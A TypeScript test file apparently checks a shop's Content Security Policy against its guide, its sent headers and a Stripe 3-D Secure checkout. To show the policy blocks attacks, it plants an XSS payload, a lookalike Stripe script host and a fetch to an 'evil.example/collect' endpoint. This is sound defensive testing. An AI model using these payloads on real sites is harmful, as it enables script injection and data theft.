/** The documented policy is the one that every story here runs under, and what breaks it is heard. */
import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { expect, it, onTestFinished } from 'vitest';
import { contentSecurityPolicy } from '../../examples/backend/content-security-policy.mjs';
import { cards } from './support/cards.js';
import { CheckoutPage } from './support/checkout-page.js';
import { useChromium } from './support/chromium.js';
import { clickAway } from './support/point-and-click.js';
import { useShop } from './support/shop.js';
import { hearViolations } from './support/violations.js';

const shop = useShop();
const newPage = useChromium();

const GUIDE = new URL('../../docs/content-security-policy.md', import.meta.url);
const DEFAULT_POLICY = new URL('../../examples/pages/trusted-types.js', import.meta.url);

/** The fenced block of a language in the guide. */
const blockOf = (guide: string, language: string): string =>
  new RegExp(`\`\`\`${language}\n([^]*?)\`\`\``).exec(guide)?.[1]?.trim() ?? '';

const oneLine = (text: string): string => text.replaceAll(/\s+/g, ' ').trim();

/** A page of its own with ears of its own: what is planted there fails no other story. */
async function planted(plant: (page: Page) => Promise<unknown>): Promise<readonly string[]> {
  const browser = (await newPage()).context().browser();
  const context = await browser?.newContext();
  if (!context) throw new Error('There is no browser.');
  onTestFinished(() => context.close());
  const heard = await hearViolations(context);
  const page = await context.newPage();
  await page.goto(`${shop().url}one-page`);
  await plant(page);
  await expect.poll(() => heard().length).toBeGreaterThan(0);
  return heard();
}

it('is what the guide says, and what the pages of the shop are sent with', async () => {
  const guide = await readFile(GUIDE, 'utf8');
  expect(oneLine(blockOf(guide, 'http'))).toBe(`Content-Security-Policy: ${contentSecurityPolicy(null)}`);

  const { headers } = await fetch(`${shop().url}one-page`);
  const { simulatorUrl } = shop();
  expect(headers.get('content-security-policy')?.replaceAll(` ${simulatorUrl}`, '')).toBe(contentSecurityPolicy(null));
  expect(headers.get('content-security-policy')).not.toMatch(/unsafe|\*[ ;]/);
});

it('lets Stripe’s loader name its script as the guide says, and nobody another', async () => {
  const guide = await readFile(GUIDE, 'utf8');
  const [, ...code] = (await readFile(DEFAULT_POLICY, 'utf8')).trim().split('\n');
  expect(oneLine(blockOf(guide, 'js'))).toBe(oneLine(code.join('\n')));
});

it.each<[string, (page: Page) => Promise<unknown>, string]>([
  [
    'a script of somebody else’s',
    (page) =>
      page.evaluate(() => {
        const script = document.createElement('script');
        script.src = 'https://js.stripe.com.evil.example/v3.js';
      }),
    'require-trusted-types-for',
  ],
  [
    'markup made of a string',
    (page) => page.evaluate(() => (document.body.innerHTML = '<img src=x onerror=alert(1)>')),
    'require-trusted-types-for',
  ],
  [
    'another policy for trusted types',
    (page) =>
      page.evaluate(() => {
        const { trustedTypes } = globalThis as unknown as {
          trustedTypes: { createPolicy(n: string, r: object): void };
        };
        trustedTypes.createPolicy('anything', {});
      }),
    'trusted-types',
  ],
  [
    'a style in an attribute',
    (page) => page.evaluate(() => document.body.setAttribute('style', 'color: red')),
    'style-src',
  ],
  [
    'a request to somebody else',
    (page) => page.evaluate(() => fetch('https://evil.example/collect').catch(() => null)),
    'connect-src',
  ],
])('stops %s, and that is heard', async (_what, plant, directive) => {
  const heard = await planted((page) => plant(page).catch(() => null));
  expect(heard.join('\n')).toContain(directive);
});

it('holds from a card to 3-D Secure', async () => {
  const page = await newPage();
  const said: string[] = [];
  page.on('console', (message) => {
    if (/content security policy|trustedhtml|trustedscript/i.test(message.text())) said.push(message.text());
  });
  const checkout = await CheckoutPage.open(page, `${shop().url}one-page`);
  await checkout.fill(cards.asks3ds);
  await checkout.pay();
  await clickAway(checkout.challenge.getByRole('button', { name: 'Complete' }));
  await checkout.reaches('complete');
  expect(said).toEqual([]);
});
